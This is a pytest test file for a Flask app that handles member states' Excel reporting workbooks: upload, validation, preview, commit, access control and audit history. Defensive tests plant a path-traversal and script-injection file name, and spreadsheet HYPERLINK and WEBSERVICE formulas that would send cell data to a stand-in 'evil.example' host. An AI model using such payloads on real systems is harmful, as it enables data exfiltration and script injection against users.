"""Member-state workbooks: template, upload, validation, preview, commit, archive."""

from __future__ import annotations

import io
import re
import threading
from datetime import date, datetime
from pathlib import Path

import pytest
from flask import Flask
from flask.testing import FlaskClient
from openpyxl import load_workbook
from openpyxl.formatting.rule import FormulaRule
from openpyxl.worksheet.datavalidation import DataValidation
from sqlalchemy import text
from sqlmodel import select

from app.imports.models import ImportCommit, Upload
from app.imports.template import META_SHEET, VALUES_SHEET
from app.plan.models import ReportingPeriod
from app.progress.models import IndicatorValue, Submission
from tests.conftest import open_session
from tests.fixtures_accounts import csrf_of, sign_in
from tests.fixtures_uploads import PERIOD
from tests.fixtures_uploads import period_id as _period_id
from tests.workbooks import download_template, fill, rows_by_code, valid_answers


def _upload(client: FlaskClient, data: bytes, name: str = "report.xlsx", htmx: bool = False):
    headers = {"HX-Request": "true"} if htmx else {}
    return client.post(
        "/uploads",
        headers=headers,
        content_type="multipart/form-data",
        data={"csrf_token": csrf_of(client), "workbook": (io.BytesIO(data), name)},
    )


def _latest(app: Flask) -> Upload:
    with open_session(app) as session:
        return session.exec(select(Upload).order_by(Upload.id.desc())).first()  # type: ignore[attr-defined]


def _commit(client: FlaskClient, upload_id: int, reason: str | None = None):
    """Press Load on the upload's page (with a correction's reason, when one is given)."""
    data = {"csrf_token": csrf_of(client)}
    if reason is not None:
        data["correction_reason"] = reason
    return client.post(f"/uploads/{upload_id}/commit", data=data)


def _values(app: Flask) -> list[IndicatorValue]:
    with open_session(app) as session:
        return list(session.exec(select(IndicatorValue)).all())


def test_the_template_is_made_for_the_state_and_period(template: bytes) -> None:
    workbook = load_workbook(io.BytesIO(template))
    assert workbook.sheetnames == [VALUES_SHEET, "Instructions", META_SHEET]
    meta = {row[0]: row[1] for row in workbook[META_SHEET].iter_rows(values_only=True)}
    assert (meta["member_state"], meta["reporting_period"], meta["template_version"]) == (
        "THA",
        PERIOD,
        "1",
    )
    assert workbook[META_SHEET].sheet_state == "hidden"
    assert workbook[META_SHEET].protection.sheet and workbook[VALUES_SHEET].protection.sheet
    values = workbook[VALUES_SHEET]
    rows = rows_by_code(workbook)
    assert "3.1.c" in rows and "2.1.b" in rows
    row = rows["3.1.c"]
    assert values[f"A{row}"].protection.locked and not values[f"F{row}"].protection.locked
    assert values[f"G{row}"].protection.locked  # a number takes no numerator
    yes_no_row = rows["3.1.b"]
    assert any(f"F{yes_no_row}" in str(dv.sqref) for dv in values.data_validations.dataValidation)


def test_a_valid_upload_is_previewed_then_committed(app, focal, template) -> None:
    answers = valid_answers(template)
    response = _upload(focal, fill(template, answers))
    body = response.get_data(as_text=True)
    assert response.status_code == 200
    assert "nothing has been saved yet" in body
    upload = _latest(app)
    assert upload.outcome == "previewed"
    assert upload.counts == {"new": len(answers), "changed": 0, "unchanged": 0, "ignored": 0}
    assert _values(app) == []

    committed = _commit(focal, upload.id)
    assert committed.status_code == 303
    values = _values(app)
    assert len(values) == len(answers) and all(v.source == "upload" for v in values)
    assert _latest(app).outcome == "committed"
    assert Path(app.config["STORAGE_DIR"], "archive", f"{upload.file_sha256}.xlsx").exists()


def test_a_preview_opens_no_report(app, focal, template) -> None:
    """The preview page says nothing has been saved: no draft report may appear for the period
    (on "my work" and the submissions list) until the values are loaded."""
    _upload(focal, fill(template, valid_answers(template)))
    upload = _latest(app)
    assert upload.outcome == "previewed" and upload.submission_id is None
    with open_session(app) as session:
        assert session.exec(select(Submission)).all() == []
    assert PERIOD not in focal.get("/submissions").get_data(as_text=True)
    assert "Not started" in _my_work_row(focal) and "Draft" not in _my_work_row(focal)

    assert _commit(focal, upload.id).status_code == 303
    with open_session(app) as session:
        submission = session.exec(select(Submission)).one()
    assert (submission.status, submission.version) == ("draft", 2)
    assert _latest(app).submission_id == submission.id
    assert all(v.submission_id == submission.id for v in _values(app))
    assert PERIOD in focal.get("/submissions").get_data(as_text=True)
    assert "Draft" in _my_work_row(focal)


def _my_work_row(client: FlaskClient) -> str:
    """The period's row in the focal point's "my work" table."""
    page = client.get("/my-work").get_data(as_text=True)
    return re.search(rf'<td class="code">{PERIOD}</td>.*?</tr>', page, re.S).group(0)


def test_uploading_the_same_data_again_changes_nothing(app, focal, template) -> None:
    data = fill(template, valid_answers(template))
    _upload(focal, data)
    _commit(focal, _latest(app).id)
    before = [(v.id, v.version) for v in _values(app)]

    resaved = fill(data, {})  # opened and saved again: different bytes, same content
    assert resaved != data
    response = _upload(focal, resaved)
    assert "Nothing to change" in response.get_data(as_text=True)
    assert _latest(app).outcome == "unchanged"
    assert [(v.id, v.version) for v in _values(app)] == before


def test_a_corrected_file_replaces_the_values_it_covers(app, focal, template) -> None:
    answers = valid_answers(template)
    _upload(focal, fill(template, answers))
    _commit(focal, _latest(app).id)
    answers["3.1.c"]["Value"] = 99
    response = _upload(focal, fill(template, answers))
    body = response.get_data(as_text=True)
    assert "<strong>1</strong> changed" in body and "99" in body
    _commit(focal, _latest(app).id)
    changed = [v for v in _values(app) if v.value == 99]
    assert len(changed) == 1 and changed[0].version == 2


def test_a_preview_overtaken_by_a_later_load_says_so_once_and_offers_no_load(
    app, focal, template
) -> None:
    answers = valid_answers(template)
    _load(app, focal, fill(template, answers))
    answers["3.1.c"]["Value"] = 99
    _upload(focal, fill(template, answers))
    old = _latest(app).id
    answers["3.1.c"]["Value"] = 50
    answers["2.1.b"]["Narrative"] = "Changed since"
    _load(app, focal, fill(template, answers))  # a later workbook loaded first

    page = focal.get(f"/uploads/{old}").get_data(as_text=True)
    assert "changed after this preview" in page
    assert "Load these values" not in page
    assert "<strong>1</strong> changed" not in page  # counts made against the old report

    response = _commit(focal, old)
    assert response.status_code == 409
    body = response.get_data(as_text=True)
    assert body.count("after this preview") == 1 and "Load these values" not in body
    with open_session(app) as session:
        assert session.get(Upload, old).outcome == "stale"
    assert focal.get(f"/uploads/{old}").get_data(as_text=True).count("after this preview") == 1


def test_a_preview_the_focal_point_can_no_longer_load_says_why(app, focal, template) -> None:
    answers = valid_answers(template)
    _load(app, focal, fill(template, answers))
    answers["3.1.c"]["Value"] = 99
    _upload(focal, fill(template, answers))
    upload = _latest(app)
    _set_status(app, report="submitted")
    page = focal.get(f"/uploads/{upload.id}").get_data(as_text=True)
    assert "This report has been submitted" in page and "Load these values" not in page


def _preview_row(body: str, code: str) -> list[str]:
    """The field, "now" and "after loading" cells of an indicator's row in the preview."""
    row = re.search(rf'<span class="code">{re.escape(code)}</span>.*?</tr>', body, re.S).group(0)
    return [re.sub(r"<[^>]+>", "", cell).strip() for cell in re.findall(r"<td>(.*?)</td>", row)]


def test_a_new_percentage_is_previewed_as_typed(app, focal, template) -> None:
    answers = valid_answers(template)
    answers["SG2.a"] = {"Numerator": 3, "Denominator": 4}
    body = _upload(focal, fill(template, answers)).get_data(as_text=True)
    assert _preview_row(body, "SG2.a") == ["new", "—", "3 / 4"]


def test_yes_no_answers_are_previewed_as_yes_and_no(app, focal, template) -> None:
    answers = valid_answers(template)
    assert answers["3.1.b"]["Value"] == "yes"
    body = _upload(focal, fill(template, answers)).get_data(as_text=True)
    assert _preview_row(body, "3.1.b") == ["new", "—", "Yes"]
    assert _commit(focal, _latest(app).id).status_code == 303

    answers["3.1.b"]["Value"] = "no"
    body = _upload(focal, fill(template, answers)).get_data(as_text=True)
    assert _preview_row(body, "3.1.b") == ["value", "Yes", "No"]


def test_every_problem_is_reported_with_its_cell_at_once(app, focal, template) -> None:
    answers = valid_answers(template)
    answers["3.1.c"]["Value"] = "twelve"
    answers["SG2.a"] = {"Numerator": 5, "Denominator": 4}
    answers["3.1.b"] = {"Value": "maybe"}
    answers["2.1.b"]["As of date"] = date(2024, 1, 1)

    def extra_rows(workbook) -> None:
        sheet = workbook[VALUES_SHEET]
        last = sheet.max_row
        sheet[f"A{last + 1}"] = "9.9.z"
        sheet[f"F{last + 1}"] = 1
        sheet[f"A{last + 2}"] = "3.1.c"
        sheet[f"F{last + 2}"] = 1
        sheet[f"A{last + 3}"] = "1.1.a"
        sheet[f"F{last + 3}"] = 1

    response = _upload(focal, fill(template, answers, extra_rows))
    body = response.get_data(as_text=True)
    assert response.status_code == 422
    upload = _latest(app)
    found = {(p["cell"][0], p["message"].split(";")[0]) for p in upload.problems}
    messages = " | ".join(p["message"] for p in upload.problems)
    assert "'twelve' is text where a number belongs" in messages
    assert "cannot exceed the denominator" in messages
    assert "answer yes or no" in messages
    assert "is outside 2025-Q3" in messages
    assert "unknown indicator code '9.9.z'" in messages
    assert "appears twice" in messages
    assert "Thailand does not report indicator 1.1.a" in messages
    assert len(upload.problems) >= 7 and found
    assert "Download your workbook with the problems marked" in body
    assert _values(app) == []

    annotated = focal.get(f"/uploads/{upload.id}/annotated.xlsx")
    workbook = load_workbook(io.BytesIO(annotated.data))
    assert workbook.sheetnames[0] == "Problems"
    first = upload.problems[0]
    cell = workbook[first["sheet"]][first["cell"]]
    assert cell.comment is not None and first["message"] in cell.comment.text


def test_women_and_men_counted_beyond_the_total_are_refused_at_their_cell(
    app, focal, template
) -> None:
    answers = valid_answers(template)
    by_sex = next(code for code, answer in answers.items() if "Female" in answer)
    answers[by_sex].update({"Value": 5, "Female": 4, "Male": 3})
    response = _upload(focal, fill(template, answers))
    assert response.status_code == 422
    [problem] = _latest(app).problems
    row = rows_by_code(load_workbook(io.BytesIO(template)))[by_sex]
    assert (problem["sheet"], problem["cell"]) == (VALUES_SHEET, f"I{row}")  # Female
    assert "women and men counted (7) are more than the total (5)" in problem["message"]
    assert _values(app) == []


def test_renamed_columns_and_sheets_are_named(app, focal, template) -> None:
    def rename_column(workbook) -> None:
        workbook[VALUES_SHEET]["F3"] = "Amount"

    _upload(focal, fill(template, {}, rename_column))
    problems = _latest(app).problems
    assert (
        problems[0]["cell"] == "F3"
        and "should be 'Value' (found 'Amount')" in problems[0]["message"]
    )

    def rename_sheet(workbook) -> None:
        workbook[VALUES_SHEET].title = "Data"

    _upload(focal, fill(template, {}, rename_sheet))
    assert "There is no sheet named 'Values'" in _latest(app).problems[0]["message"]


def test_a_workbook_for_another_state_is_refused(app, people, focal) -> None:
    manager = sign_in(app.test_client(), people.manager)
    malaysian_template = download_template(manager, _period_id(app), people.malaysia.id)
    response = _upload(focal, fill(malaysian_template, valid_answers(malaysian_template)))
    assert response.status_code == 422
    assert "This workbook is for Malaysia" in response.get_data(as_text=True)


def test_a_refused_workbook_for_another_state_stays_out_of_that_states_history(app, people) -> None:
    """Sending Thailand's template as Malaysia's focal point must not put an entry, named by
    the sender, into Thailand's upload history: it is the sender's and the managers' only."""
    manager = sign_in(app.test_client(), people.manager)
    thai_template = download_template(manager, _period_id(app), people.thailand.id)
    malaysian = sign_in(app.test_client(), people.other_focal_point)
    name = "URGENT re-upload your report here.xlsx"
    response = _upload(malaysian, fill(thai_template, valid_answers(thai_template)), name=name)
    assert response.status_code == 422
    assert "This workbook is for Thailand" in response.get_data(as_text=True)
    upload = _latest(app)
    assert upload.member_state_id != people.thailand.id

    thai = sign_in(app.test_client(), people.focal_point)
    assert name not in thai.get("/uploads").get_data(as_text=True)
    assert thai.get(f"/uploads/{upload.id}").status_code == 404
    assert malaysian.get(f"/uploads/{upload.id}").status_code == 200
    assert name in malaysian.get("/uploads").get_data(as_text=True)
    assert name in manager.get("/uploads").get_data(as_text=True)


def _set_status(app: Flask, *, report: str | None = None, period: str | None = None) -> None:
    """Move the (only) report and/or the period on, as a review or closing the period would."""
    with open_session(app) as session:
        if report:
            submission = session.exec(select(Submission)).one()
            submission.status = report
            submission.version += 1
            session.add(submission)
        if period:
            row = session.get(ReportingPeriod, _period_id(app))
            row.status = period
            session.add(row)
        session.commit()


def _load(app: Flask, client: FlaskClient, data: bytes) -> None:
    _upload(client, data)
    assert _commit(client, _latest(app).id).status_code == 303


@pytest.mark.parametrize(
    ("report", "period", "said"),
    [
        (None, "closed", "2025-Q3 is closed; ask an RSO manager to record a late report."),
        ("draft", "closed", "2025-Q3 is closed. Only an RSO manager can correct it now."),
        (
            "submitted",
            None,
            "This report has been submitted. It can be changed again if a manager returns it.",
        ),
        (
            "approved",
            None,
            "This report has been approved. Only an RSO manager can correct it now.",
        ),
    ],
)
def test_a_report_the_focal_point_may_not_change_is_refused_on_upload(
    app, people, focal, template, report, period, said
) -> None:
    """Web entry refuses a focal point a closed period or a report sent for review; the upload
    says so at once, in the same words, instead of previewing values it cannot load."""
    answers = valid_answers(template)
    if report:
        _load(app, focal, fill(template, answers))
    _set_status(app, report=report if report != "draft" else None, period=period)
    answers["3.1.c"]["Value"] = 99
    response = _upload(focal, fill(template, answers))
    assert response.status_code == 422
    body = response.get_data(as_text=True)
    assert said.replace("'", "&#39;") in body
    assert "Load these values" not in body
    assert [p["message"] for p in _latest(app).problems] == [said]

    manager = sign_in(app.test_client(), people.manager)  # managers correct, as on the web
    response = _upload(manager, fill(template, answers))
    assert response.status_code == 200 and _latest(app).outcome == "previewed"


def test_loading_names_the_status_the_report_reached_after_the_preview(
    app, focal, template
) -> None:
    answers = valid_answers(template)
    _load(app, focal, fill(template, answers))
    answers["3.1.c"]["Value"] = 99
    _upload(focal, fill(template, answers))
    upload = _latest(app)
    assert upload.outcome == "previewed"
    _set_status(app, report="approved")  # reviewed while the preview was open
    response = _commit(focal, upload.id)
    assert response.status_code == 409
    body = response.get_data(as_text=True)
    assert "This report has been approved" in body and "has been submitted" not in body
    assert not any(v.value == 99 for v in _values(app))


def test_a_manager_uploads_on_behalf_of_a_state(app, people) -> None:
    manager = sign_in(app.test_client(), people.manager)
    template = download_template(manager, _period_id(app), people.malaysia.id)
    _upload(manager, fill(template, valid_answers(template)))
    assert _commit(manager, _latest(app).id).status_code == 303
    with open_session(app) as session:
        submission = session.exec(select(Submission)).one()
    assert submission.member_state_id == people.malaysia.id


def test_a_formula_uses_its_cached_value_and_one_without_is_refused(app, focal, template) -> None:
    answers = valid_answers(template)
    answers["3.1.c"]["Value"] = "=2+3"
    _upload(focal, fill(template, answers))  # openpyxl stores no calculated value
    upload = _latest(app)
    assert upload.outcome == "refused"
    assert "formula with no calculated value" in upload.problems[0]["message"]


def test_two_identical_uploads_racing_load_once(app, focal, template) -> None:
    data = fill(template, valid_answers(template))
    _upload(focal, data)
    first = _latest(app).id
    _upload(focal, data)
    second = _latest(app).id
    results = {}

    def commit(upload_id: int) -> None:
        results[upload_id] = _commit(focal, upload_id)

    threads = [threading.Thread(target=commit, args=(i,)) for i in (first, second)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    codes = sorted(r.status_code for r in results.values())
    assert codes == [303, 409]
    loser = next(r for r in results.values() if r.status_code == 409).get_data(as_text=True)
    assert "changed after this preview" in loser or "just loaded by another upload" in loser
    with open_session(app) as session:
        assert len(session.exec(select(ImportCommit)).all()) == 1
    assert all(v.version == 1 for v in _values(app))


def test_focal_points_see_only_their_own_uploads(app, people, focal, template) -> None:
    _upload(focal, fill(template, valid_answers(template)))
    upload_id = _latest(app).id
    malaysian = sign_in(app.test_client(), people.other_focal_point)
    assert malaysian.get(f"/uploads/{upload_id}").status_code == 404
    assert (
        malaysian.post(
            f"/uploads/{upload_id}/commit", data={"csrf_token": csrf_of(malaysian)}
        ).status_code
        == 404
    )
    assert "report.xlsx" not in malaysian.get("/uploads").get_data(as_text=True)
    # the template route ignores another state's id for a focal point
    own = download_template(malaysian, _period_id(app), people.thailand.id)
    meta = load_workbook(io.BytesIO(own))[META_SHEET]
    assert meta["B2"].value == "MYS"


def test_the_original_name_is_shown_escaped_and_never_used_as_a_path(app, focal, template) -> None:
    name = "../../รายงาน <img src=x onerror=alert(1)> রিপোর্ট.xlsx"
    _upload(focal, fill(template, valid_answers(template)), name=name)
    upload = _latest(app)
    assert upload.original_name == "รายงาน <img src=x onerror=alert(1)> রিপোর্ট.xlsx"
    assert upload.stored_name == f"{upload.file_sha256}.xlsx"
    page = focal.get("/uploads").get_data(as_text=True)
    assert "รายงาน &lt;img src=x onerror=alert(1)&gt; রিপোর্ট.xlsx" in page
    assert "<img src=x" not in page


def test_the_htmx_upload_returns_the_result_fragment(app, focal, template) -> None:
    response = _upload(focal, fill(template, valid_answers(template)), htmx=True)
    assert (
        response.get_data(as_text=True).lstrip().startswith('<section class="panel upload-result"')
    )


def test_the_inbox_scan_files_valid_files_for_a_person_and_keeps_refused_ones(
    app, runner, focal, template
) -> None:
    inbox = Path(app.config["STORAGE_DIR"]) / "inbox"
    inbox.mkdir(parents=True)
    (inbox / "thailand-q3.xlsx").write_bytes(fill(template, valid_answers(template)))
    (inbox / "broken.xlsx").write_bytes(b"%PDF-1.4 not a workbook")
    result = runner.invoke(args=["imports", "scan"])
    assert result.exit_code == 0, result.output
    assert "thailand-q3.xlsx: received as upload" in result.output
    assert "wait for a focal point of Thailand or an RSO manager to load them" in result.output
    assert "broken.xlsx: refused as upload" in result.output
    assert _values(app) == []  # nobody loaded it yet
    assert sorted(p.name for p in inbox.iterdir()) == ["received", "refused"]
    again = runner.invoke(args=["imports", "scan"])
    assert "is empty" in again.output
    with open_session(app) as session:
        sources = session.exec(select(Upload.source, Upload.outcome)).all()
    assert sorted(sources) == [("inbox", "previewed"), ("inbox", "refused")]


def test_the_sample_workbook_in_the_repository_uploads_cleanly(app, focal) -> None:
    sample = Path(__file__).resolve().parent.parent / "imports/samples/thailand-2025-Q3-filled.xlsx"
    response = _upload(focal, sample.read_bytes(), name=sample.name)
    assert response.status_code == 200, _latest(app).problems
    assert _latest(app).outcome == "previewed"


def test_a_commit_is_one_audit_event_and_every_value_keeps_its_history(
    app, people, focal, template
) -> None:
    """A workbook commit writes one audit event (upload, counts, reason); each value's
    revisions tell who changed it, when, from which upload, and what it was before."""
    from app.audit.models import AuditEvent
    from app.progress.models import IndicatorValueRevision

    answers = valid_answers(template)
    _upload(focal, fill(template, answers))
    first = _latest(app)
    _commit(focal, first.id)
    answers["3.1.c"]["Value"] = 99
    _upload(focal, fill(template, answers))
    second = _latest(app)
    _commit(focal, second.id)

    with open_session(app) as session:
        events = session.exec(
            select(AuditEvent).where(
                AuditEvent.entity_type.in_(["upload", "indicator_value"])  # type: ignore[attr-defined]
            )
        ).all()
        value = session.exec(select(IndicatorValue).where(IndicatorValue.value == 99)).one()
        history = session.exec(
            select(IndicatorValueRevision)
            .where(IndicatorValueRevision.indicator_value_id == value.id)
            .order_by(IndicatorValueRevision.version)
        ).all()
    assert [(e.entity_type, e.entity_id, e.action) for e in events] == [
        ("upload", str(first.id), "update"),
        ("upload", str(second.id), "update"),
    ]
    assert events[0].actor_id == people.focal_point.id
    assert events[0].after["values_changed"] == len(answers)
    assert events[1].after["values_changed"] == 1 and events[1].after["rows_unchanged"] == (
        len(answers) - 1
    )
    assert events[1].after["revisions_reason"] == f"workbook upload {second.id}"
    assert [(r.version, r.value, r.source, r.reason) for r in history] == [
        (1, 7, "upload", f"workbook upload {first.id}"),
        (2, 99, "upload", f"workbook upload {second.id}"),
    ]
    assert {r.changed_by_id for r in history} == {people.focal_point.id}
    manager = sign_in(app.test_client(), people.manager)
    page = manager.get("/audit?entity_type=upload").get_data(as_text=True)
    assert "unknown kind" not in page and "workbook upload" in page


def test_a_preview_stored_before_rows_were_kept_as_lists_still_commits(
    app, focal, template
) -> None:
    """Previews saved by the previous version hold one dict a row; they load the same."""
    from app.imports.checks import rows_of

    _upload(focal, fill(template, valid_answers(template)))
    upload = _latest(app)
    with open_session(app) as session:
        stored = session.get(Upload, upload.id)
        stored.rows = [{"row": 4 + n, **row} for n, row in enumerate(rows_of(stored.rows))]
        session.add(stored)
        session.commit()
    assert "3.1.c" in focal.get(f"/uploads/{upload.id}").get_data(as_text=True)
    assert _commit(focal, upload.id).status_code == 303
    assert len(_values(app)) == len(valid_answers(template))


def test_the_import_reads_the_same_indicators_as_web_entry(app, people) -> None:
    """checks.reported_indicators reads light rows; it must agree with the submissions' rule."""
    from app.imports.checks import reported_indicators
    from app.progress.submissions import reported_indicators as reported_on_the_web

    with open_session(app) as session:
        for period in session.exec(select(ReportingPeriod)).all():
            for state in (people.thailand, people.malaysia):
                light = reported_indicators(session, state.id, period)
                full = reported_on_the_web(session, state.id, period)
                assert [(r.id, r.code, r.unit, r.by_sex) for r in light] == [
                    (i.id, i.code, i.unit, i.by_sex) for i in full
                ]


def test_stored_rows_are_read_back_field_by_field() -> None:
    """Upload.rows keeps lists in STORED_FIELDS order; commit builds ValueInputs from them by
    position, so the two orders must agree."""
    from dataclasses import fields

    from app.imports.checks import STORED_FIELDS, RowEntry, rows_of, stored_rows
    from app.imports.ingest import _value_inputs
    from app.progress.services import VALUE_FIELDS, ValueInput

    assert STORED_FIELDS[2:] == VALUE_FIELDS
    assert tuple(f.name for f in fields(ValueInput))[3:] == VALUE_FIELDS
    entry = RowEntry(5, 11, "1.1.a", 1.0, 2.0, 3.0, 4.0, 5.0, None, "n", "https://e.org")
    rows = stored_rows([entry])
    assert rows_of(rows) == [{name: getattr(entry, name) for name in STORED_FIELDS}]
    [value] = _value_inputs(rows, 3, 8)
    assert (value.indicator_id, value.reporting_period_id, value.member_state_id) == (11, 3, 8)
    assert {name: getattr(value, name) for name in VALUE_FIELDS} == {
        name: getattr(entry, name) for name in VALUE_FIELDS
    }


def test_the_cycle_collector_is_paused_only_while_a_bulk_step_runs() -> None:
    import gc

    from app.imports.ingest import _without_cyclic_gc

    seen = []

    @_without_cyclic_gc
    def step(fail: bool = False, inner: bool = False) -> None:
        seen.append(gc.isenabled())
        if inner:
            step()
            seen.append(gc.isenabled())
        if fail:
            raise RuntimeError("boom")

    assert gc.isenabled()
    step(inner=True)
    with pytest.raises(RuntimeError):
        step(fail=True)
    assert seen == [False, False, False, False] and gc.isenabled()
    gc.disable()
    try:
        step()
        assert not gc.isenabled()  # left as it was found
    finally:
        gc.enable()


def test_the_annotated_copy_holds_no_live_formula(app, focal, template) -> None:
    """A refused workbook's annotated copy is served to managers and the sender: a formula the
    sender typed (one that would send the report's data elsewhere) must come back as text."""
    answers = valid_answers(template)
    link = '=HYPERLINK("http://evil.example/?d="&F4,"Click to fix")'
    row = rows_by_code(load_workbook(io.BytesIO(template)))["3.1.c"]

    def plant(workbook) -> None:
        sheet = workbook[VALUES_SHEET]
        sheet[f"L{row}"] = link
        sheet[f"F{row + 1}"] = "abc"
        sheet["A1"].hyperlink = "http://evil.example/"
        workbook["Instructions"]["B2"] = '=WEBSERVICE("http://evil.example/")'
        sheet.add_data_validation(DataValidation(type="custom", formula1="=WEBSERVICE(F4)"))
        sheet.conditional_formatting.add("F4", FormulaRule(formula=["WEBSERVICE(F4)"]))

    response = _upload(focal, fill(template, answers, plant))
    assert response.status_code == 422
    upload = _latest(app)
    annotated = focal.get(f"/uploads/{upload.id}/annotated.xlsx")
    assert annotated.status_code == 200
    workbook = load_workbook(io.BytesIO(annotated.data))
    formulas = [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in workbook.worksheets
        for line in sheet.iter_rows()
        for cell in line
        if cell.data_type == "f"
    ]
    assert formulas == []
    values = workbook[VALUES_SHEET]
    assert values[f"L{row}"].value == link  # what was typed, as text
    assert values["A1"].hyperlink is None
    assert workbook["Instructions"]["B2"].value == '=WEBSERVICE("http://evil.example/")'
    assert values[f"L{row}"].quotePrefix  # shown as text, and kept so if edited
    assert [v.formula1 for v in values.data_validations.dataValidation] == ['"yes,no"']
    assert not list(values.conditional_formatting)
    # the problem comments stay on the cells they are about
    for problem in upload.problems:
        if problem["cell"]:
            comment = workbook[problem["sheet"]][problem["cell"].split(":")[0]].comment
            assert comment is not None and problem["message"] in comment.text


def test_migration_0009_detaches_refused_uploads_already_filed_under_another_state(
    app, people
) -> None:
    """Uploads refused before the fix kept the state the workbook named; the migration clears
    it when the sender, not a manager, reports for another state (or none)."""
    from app import schema

    engine, url = app.extensions["db_engine"], app.config["DATABASE_URL"]
    schema.downgrade(engine, url, "0008")
    sent = {
        "by the other state": (people.other_focal_point.id, "refused"),
        "by a manager": (people.manager.id, "refused"),
        "by its own focal point": (people.focal_point.id, "refused"),
        "previewed": (people.other_focal_point.id, "previewed"),
    }
    with engine.begin() as connection:  # the table as it was at 0008, not as the model is now
        for name, (sender, outcome) in sent.items():
            connection.execute(
                text(
                    "INSERT INTO upload (received_at, uploaded_by_id, source, original_name,"
                    " stored_name, file_sha256, size_bytes, outcome, member_state_id)"
                    " VALUES (:at, :sender, 'web', :name, 'x.xlsx', :sha, 1, :outcome, :state)"
                ),
                {
                    "at": datetime(2026, 11, 1),
                    "sender": sender,
                    "name": name,
                    "sha": "0" * 64,
                    "outcome": outcome,
                    "state": people.thailand.id,
                },
            )
    schema.upgrade(engine, url)
    with open_session(app) as session:
        states = dict(session.exec(select(Upload.original_name, Upload.member_state_id)).all())
    assert states == {
        "by the other state": None,
        "by a manager": people.thailand.id,
        "by its own focal point": people.thailand.id,
        "previewed": people.thailand.id,  # never happened: only refusals were misfiled
    }
